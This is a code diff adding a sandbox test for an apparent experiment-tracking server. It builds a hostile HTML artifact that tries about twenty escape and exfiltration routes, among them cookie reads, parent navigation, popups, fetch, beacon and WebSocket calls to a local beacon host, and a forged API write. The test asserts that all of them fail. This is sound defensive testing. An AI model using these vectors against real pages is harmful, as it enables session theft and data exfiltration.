@@ -141,3 +141,113 @@ test('artifacts that are pages or drawings run nothing in our name, even when th
     expect(experiments, name).toEqual([]);
   }
 });
+
+/** Tries every way out that a page has, and writes down what came of each. */
+const escapeAttempts = (own: string, beacon: string): string => `<!doctype html>
+<html><head>
+<style>@import "${beacon}?css"; @font-face { font-family: f; src: url(${beacon}?font) } body { font-family: f; background: url(${beacon}?ground) }</style>
+<link rel="stylesheet" href="${beacon}?sheet"><link rel="prefetch" href="${beacon}?prefetch"><link rel="preconnect" href="${beacon}">
+<link rel="icon" href="${beacon}?icon"><meta http-equiv="refresh" content="2;url=${beacon}?refresh"><base href="${beacon}">
+</head><body><img src="${beacon}?img"><iframe src="${beacon}?frame"></iframe><object data="${beacon}?object"></object>
+<video src="${beacon}?video"></video><script src="${beacon}?script"></script><form id="f" action="${beacon}?form"><input name="a"></form>
+<pre id="told">nothing ran</pre>
+<script>
+const told = {};
+const attempt = async (name, act) => {
+  try { const got = await act(); told[name] = 'reached ' + String(got).slice(0, 80); }
+  catch (thrown) { told[name] = 'refused ' + thrown.name; }
+};
+const heard = (target, good, bad) => new Promise((resolve, reject) => {
+  target[good] = () => resolve(good);
+  target[bad] = () => reject(new Error(bad));
+  setTimeout(() => reject(new Error('silence')), 1500);
+});
+(async () => {
+  await attempt('cookie', () => document.cookie);
+  await attempt('setCookie', () => { document.cookie = 'owned=1'; });
+  await attempt('localStorage', () => localStorage.length);
+  await attempt('indexedDB', () => indexedDB.open('x'));
+  await attempt('caches', () => caches.keys());
+  await attempt('parent', () => parent.document.title);
+  await attempt('top', () => { top.location = '${beacon}?top'; });
+  await attempt('popup', () => { const opened = open('${beacon}?popup'); if (opened === null) throw new Error('null'); return opened; });
+  await attempt('api', async () => (await fetch('${own}/api/v1/server')).text());
+  await attempt('write', async () => (await fetch('${own}/api/v1/experiments', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{"name":"owned"}' })).type);
+  await attempt('fetch', async () => (await fetch('${beacon}?fetch', { mode: 'no-cors' })).type);
+  await attempt('request', () => { const r = new XMLHttpRequest(); r.open('GET', '${own}/api/v1/server', false); r.send(); return r.responseText; });
+  await attempt('beacon', () => { navigator.sendBeacon('${beacon}?beacon'); throw new Error('sent or not, counted outside'); });
+  await attempt('image', () => { const image = new Image(); image.src = '${beacon}?image'; return heard(image, 'onload', 'onerror'); });
+  await attempt('socket', () => heard(new WebSocket('${beacon.replace('http', 'ws')}?socket'), 'onopen', 'onerror'));
+  await attempt('events', () => heard(new EventSource('${own}/api/v1/changes/stream'), 'onopen', 'onerror'));
+  await attempt('worker', () => heard(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'onmessage', 'onerror'));
+  await attempt('import', () => import('${beacon}?import'));
+  await attempt('eval', () => eval('1'));
+  await attempt('serviceWorker', () => navigator.serviceWorker.register('${own}/sw.js'));
+  await attempt('form', () => { document.getElementById('f').submit(); throw new Error('sent or not, counted outside'); });
+  document.getElementById('told').textContent = JSON.stringify(told);
+})();
+</script></body></html>`;
+
+test('a page among the artifacts runs in a frame that reaches nothing', async () => {
+  const asked: string[] = [];
+  const elsewhere = createServer((request, response) => {
+    asked.push(request.url ?? '');
+    response.setHeader('access-control-allow-origin', '*').end('reached');
+  });
+  await new Promise<void>((resolve) => {
+    elsewhere.listen(0, '127.0.0.1', resolve);
+  });
+  const beacon = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;
+  try {
+    await using server = await startServer();
+    const client = clientOf(server.url);
+    const { id: runId } = await client.createRun({ body: { experimentName: 'pages', name: 'one' } });
+    const upload = (name: string, body: string, mediaType = 'text/html') =>
+      client.uploadArtifact({ params: { runId }, query: { name }, body, mediaType });
+    await upload('attack.html', escapeAttempts(server.url, beacon));
+    await upload('leave.html', `<!doctype html><p>leaving</p><script>location = ${JSON.stringify(`${beacon}?left`)}</script>`);
+    await upload('return.html', `<!doctype html><p>back</p><script>location = ${JSON.stringify(server.url)}</script>`);
+    await using browser = await launchBrowser();
+    const context = await browser.newContext();
+    await context.addCookies([{ name: 'session', value: 'secret', url: server.url }]);
+    const page = await context.newPage();
+    const fromFrames: string[] = [];
+    page.on('request', (request) => {
+      if (request.frame() !== page.mainFrame()) fromFrames.push(request.url());
+    });
+    const show = async (name: string) => {
+      await page.goto(`${server.url}/runs/${runId}?tab=artifacts&artifact=${encodeURIComponent(`output:${name}`)}`);
+      const frame = page.frameLocator('iframe');
+      await page.locator('iframe').waitFor();
+      return frame;
+    };
+
+    const frame = await show('attack.html');
+    const told = frame.locator('#told');
+    await expect.poll(() => told.innerText(), { timeout: 30_000 }).toMatch(/^\{/);
+    const outcomes = JSON.parse(await told.innerText()) as Record<string, string>;
+    expect(Object.keys(outcomes)).toHaveLength(21);
+    const reached = Object.entries(outcomes).filter(([, outcome]) => outcome.startsWith('reached'));
+    expect(reached).toEqual([]);
+    await page.waitForTimeout(2500);
+    expect(fromFrames.filter((url) => !url.includes('/artifacts/content?'))).toEqual([]);
+    expect(page.url()).toContain(server.url);
+    expect(context.pages()).toHaveLength(1);
+
+    for (const name of ['leave.html', 'return.html']) {
+      await show(name);
+      await page.waitForTimeout(700);
+      expect(page.url()).toContain(`${server.url}/runs/${runId}`);
+    }
+    expect(asked).toEqual([]);
+    expect((await client.listExperiments({ query: { name: 'owned' } })).experiments).toEqual([]);
+
+    // By itself it is a download, and for a page that is not ours not even that.
+    const address = `${server.url}/api/v1/runs/${runId}/artifacts/content?name=attack.html&as=page`;
+    await page.goto(address).catch((thrown: unknown) => expect(String(thrown)).toMatch(/Download is starting|ERR_ABORTED/));
+    const headers = { 'sec-fetch-dest': 'iframe', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' };
+    expect((await fetch(address, { headers })).status).toBe(403);
+  } finally {
+    elsewhere.close();
+  }
+});
